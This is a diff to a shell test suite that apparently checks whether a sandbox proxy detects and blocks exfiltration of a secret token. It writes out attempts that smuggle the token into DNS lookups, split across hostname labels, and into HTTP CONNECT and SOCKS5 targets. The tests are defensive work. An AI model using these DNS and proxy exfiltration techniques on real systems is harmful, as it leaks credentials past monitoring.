@@ -141,12 +141,12 @@ case "$RF_OUT" in
 	# characters must be
 	n0=$(exfils)
 	er "${INJ[@]}" -- sh -c 'a=$(printf %s "$TOKEN" | cut -c1-20); b=$(printf %s "$TOKEN" | cut -c21-)
-		getent hosts "$a.$b.svc.test"; echo "rc=$?"'
+		getent hosts "x$a.$b.svc.test"; echo "rc=$?"'
 	like "$RF_OUT" 'rc=2' "DNS: the placeholder split across two labels: not resolved"
 	ok_n=$(($(exfils) - n0))
 	is "$((ok_n >= 1))" 1 "... secret.exfil recorded for it ($ok_n)"
 	n0=$(exfils)
-	er "${INJ[@]}" -- sh -c 'a=$(printf %s "$TOKEN" | cut -c1-20); getent hosts "$a.svc.test"; echo "rc=$?"'
+	er "${INJ[@]}" -- sh -c 'a=$(printf %s "$TOKEN" | cut -c1-20); getent hosts "x$a.svc.test"; echo "rc=$?"'
 	is "$(($(exfils) - n0))" 0 "... the control (the first half alone, an unknown name): no secret.exfil"
 	;;
 *) skip "the captured path" "this build does not capture ($RF_OUT)" ;;
@@ -252,7 +252,7 @@ er "${INJ[@]}" -- sh -c 'python3 ec.py connect "x$TOKEN.other.test:443" "x$TOKEN
 	python3 ec.py socks "x$TOKEN.other.test" 4443
 	python3 ec.py socks other.test 4443
 	a=$(printf %s "$TOKEN" | cut -c1-20); b=$(printf %s "$TOKEN" | cut -c21-)
-	python3 ec.py connect "$a.$b.other.test:443" "$a.$b.other.test"'
+	python3 ec.py connect "x$a.$b.other.test:443" "x$a.$b.other.test"'
 like "$(sed -n 1p <<<"$RF_OUT")" '^HTTP/1\.1 403' "a CONNECT target holding the placeholder: 403"
 like "$(sed -n 2p <<<"$RF_OUT")" '^socks REP=2' "a SOCKS5 host holding the placeholder: refused (REP=2)"
 like "$(sed -n 3p <<<"$RF_OUT")" '^socks REP=0' "... the control (SOCKS5 to other.test) works"
